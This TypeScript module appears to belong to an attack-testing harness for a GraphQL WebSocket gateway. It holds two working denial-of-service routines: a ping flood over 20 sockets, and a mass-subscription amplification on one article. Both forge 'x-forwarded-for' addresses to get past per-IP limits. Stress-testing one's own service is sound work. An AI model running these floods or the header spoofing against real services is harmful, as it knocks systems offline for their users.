import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { comment } from './http-attacks.ts';
import { type AttackRun, together } from './run.ts';

const FLOODING_SOCKETS = 20;
/** Pings at a time, half of them of the protocol and half of WebSocket, when those before are sent. */
const PINGS = 50;

const SUBSCRIPTIONS = 300;
const SUBSCRIBED_SOCKETS = 6;
/** Milliseconds between comments. */
const COMMENT_EVERY = 50;

/** Sends pings as fast as the gateway reads them. */
export function flood(run: AttackRun): Promise<void> {
  return together(FLOODING_SOCKETS, async (attacker) => {
    const socket = await open(run, `172.26.0.${attacker}`);
    while (run.goesOn() && socket.readyState === socket.OPEN) {
      if (socket.bufferedAmount === 0)
        for (let i = 0; i < PINGS; i++) {
          if (i % 2 === 0) socket.ping('x'.repeat(100));
          else socket.send('{"type":"ping"}');
          run.count('pings');
        }
      await delay(1);
    }
    if (run.goesOn()) run.count('closed early');
    socket.terminate();
  });
}

/** Subscribes to one article by many distinct texts, while comments are written to it. */
export async function subscribeOften(run: AttackRun): Promise<void> {
  const sockets: WebSocket[] = [];
  await together(SUBSCRIBED_SOCKETS, async (attacker) => {
    const socket = await open(run, `172.27.0.${attacker}`);
    sockets.push(socket);
    socket.on('message', (data) => run.count((JSON.parse(String(data)) as { type: string }).type));
    for (let i = 0; i < SUBSCRIPTIONS / SUBSCRIBED_SOCKETS; i++) {
      const query = `subscription { commentAdded(articleId: "${run.target.articleId}") { s${attacker}of${i}: id body { html } author { name } } }`;
      socket.send(JSON.stringify({ id: `s${i}`, type: 'subscribe', payload: { query } }));
    }
  });
  await comment(run, COMMENT_EVERY);
  for (const socket of sockets) socket.terminate();
}

async function open(run: AttackRun, address: string): Promise<WebSocket> {
  const socket = new WebSocket(run.target.url.replace('http', 'ws'), 'graphql-transport-ws', {
    headers: { 'x-forwarded-for': address },
  });
  await once(socket, 'open');
  socket.on('error', () => run.count('failed'));
  socket.send('{"type":"connection_init"}');
  await once(socket, 'message');
  return socket;
}
